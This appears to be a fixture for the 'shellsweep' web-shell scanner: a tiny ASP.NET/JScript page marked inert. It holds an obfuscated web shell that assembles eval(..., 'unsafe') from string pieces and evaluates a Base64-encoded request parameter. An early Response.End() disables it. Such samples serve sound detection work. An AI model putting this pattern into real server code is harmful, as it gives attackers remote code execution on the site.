<script runat="server" language="JScript">
// shellsweep test sample: inert, never functional
function show(s) { var x = "u"; var y = "afe"; var f = x + "ns" + y; return eval(s, f); }
</script>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<% show(show(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("UmVxdWVzdC5JdGVtWyJrIl0=")))); %>
